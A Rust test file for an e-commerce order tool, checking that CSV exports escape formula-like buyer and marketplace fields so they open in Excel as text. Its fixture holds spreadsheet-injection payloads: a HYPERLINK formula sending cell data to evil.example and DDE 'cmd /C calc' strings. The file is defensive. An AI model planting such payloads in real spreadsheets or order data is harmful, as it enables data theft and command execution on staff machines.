//! The CSV files staff open in Excel: a cell from a buyer or a marketplace that starts like a
//! formula (`=`, `+`, `-`, `@`, tab, CR) is written as text, with a leading `'`; the numbers
//! ichigen writes itself stay numbers.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;

use chrono::DateTime;
use common::run_ok;
use ichigen_core::pipeline::{OrderStore, StaffDecision, StoredOrder};
use ichigen_core::{Order, OrderStatus};
use ichigen_local::SqliteStore;
use serde_json::json;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"詳細")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

fn hostile_order() -> Order {
    serde_json::from_value(json!({
        "schema_version": 1, "shop_id": "demo", "marketplace": "yahoo", "order_id": "store-10001",
        "ordered_at": "2026-11-27T10:00:00+09:00", "source_updated_at": "2026-11-27T10:00:00+09:00",
        "status": "new", "source_status": MINUS,
        "buyer": {"name": "高橋 健一", "email": "k@example.jp", "phone": "090-1111-2222"},
        "ship_to": {"country": "JP", "postal_code": "1000001", "prefecture": "東京都", "city": "千代田区",
                    "address1": "千代田1-1", "address2": "", "name": HYPERLINK, "phone": "+81 90-1111-2222"},
        "items": [{"sku": "=1+1", "name": CMD, "quantity": 2, "unit_price": 1650,
                   "options": [{"name": "色", "value": "白"}]}],
        "payment_method": "credit_card", "source_payment_method": "\tcreditcard",
        "delivery": {"method": "standard", "source_method": "宅配便", "requested_time_slot": "\r=1"},
        "totals": {"goods": 3300, "shipping": 600, "fee": 0, "discount": 100, "total": 3800},
        "remarks": SUM
    }))
    .expect("order")
}

/// A store under `dir` holding the hostile order, as the demo would have stored it.
fn store_with_hostile_order(dir: &Path) {
    let store = SqliteStore::open(&dir.join("ichigen.db")).expect("store");
    let at = DateTime::parse_from_rfc3339("2026-11-27T10:01:00+09:00").unwrap();
    let stored = StoredOrder {
        order: hostile_order(),
        status: OrderStatus::New,
        findings: Vec::new(),
        staff: StaffDecision::None,
        mails_due: Vec::new(),
        hold_episode: 0,
        ship_with: None,
        parcels: Vec::new(),
        acknowledgement: None,
        content_fp: "fp".into(),
        check_fp: "fp".into(),
        bundle_key: None,
        rev: 1,
        stored_at: at,
        expires_at: None,
    };
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(store.put(&stored, None)).expect("put");
}

fn records(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().iter().map(str::to_string).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    (header, rows)
}

fn cell<'a>(header: &[String], row: &'a [String], column: &str) -> &'a str {
    &row[header.iter().position(|h| h == column).unwrap_or_else(|| panic!("column {column}"))]
}

#[test]
fn export_writes_formula_like_buyer_fields_as_text() {
    let tmp = tempfile::tempdir().unwrap();
    store_with_hostile_order(tmp.path());
    let file = tmp.path().join("orders.csv");
    run_ok(&["export", "--format", "csv", "--dir", tmp.path().to_str().unwrap(), "-o", file.to_str().unwrap()]);
    let bytes = std::fs::read(&file).unwrap();
    let (header, rows) = records(std::str::from_utf8(&bytes[3..]).unwrap());
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(cell(&header, row, "送付先氏名"), format!("'{HYPERLINK}"));
    assert_eq!(cell(&header, row, "商品名"), format!("'{CMD}"));
    assert_eq!(cell(&header, row, "備考"), format!("'{SUM}"));
    assert_eq!(cell(&header, row, "モールステータス"), format!("'{MINUS}"));
    assert_eq!(cell(&header, row, "SKU"), "'=1+1");
    assert_eq!(cell(&header, row, "モール支払方法"), "'\tcreditcard");
    assert_eq!(cell(&header, row, "お届け時間帯"), "'\r=1");
    // A phone in international form stays readable, as text.
    assert_eq!(cell(&header, row, "送付先電話番号"), "'+81 90-1111-2222");
    // What ichigen writes itself is left as it is: numbers stay numbers.
    assert_eq!(cell(&header, row, "数量"), "2");
    assert_eq!(cell(&header, row, "小計"), "3300");
    assert_eq!(cell(&header, row, "割引"), "100");
    assert_eq!(cell(&header, row, "合計"), "3800");
    assert_eq!(cell(&header, row, "注文番号"), "store-10001");
    assert_eq!(cell(&header, row, "オプション"), "色:白");
    // No cell of the file starts like a formula.
    for c in row {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "cell {c:?} starts like a formula");
    }
}

#[test]
fn orders_list_csv_writes_formula_like_fields_as_text() {
    let tmp = tempfile::tempdir().unwrap();
    store_with_hostile_order(tmp.path());
    let out = run_ok(&["orders", "list", "--format", "csv", "--dir", tmp.path().to_str().unwrap()]);
    // As `ichigen export` writes it for Excel: a byte order mark, CRLF line ends.
    let text = String::from_utf8(out.stdout).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a UTF-8 byte order mark first");
    assert!(text.ends_with("\r\n") && text.matches('\n').count() == text.matches("\r\n").count(), "{text:?}");
    let (header, rows) = records(text);
    assert_eq!(rows.len(), 1);
    assert_eq!(cell(&header, &rows[0], "items"), "'=1+1×2");
    assert_eq!(cell(&header, &rows[0], "total"), "3800");
    // The clerk's columns, in the marketplaces' Japanese.
    assert_eq!(cell(&header, &rows[0], "buyer"), "高橋 健一");
    assert_eq!(cell(&header, &rows[0], "prefecture"), "東京都");
    assert_eq!(cell(&header, &rows[0], "payment"), "クレジットカード決済"); // Yahoo!ショッピングの表記
    assert_eq!(cell(&header, &rows[0], "delivery"), "宅配便");
    for c in &rows[0] {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "cell {c:?} starts like a formula");
    }
}
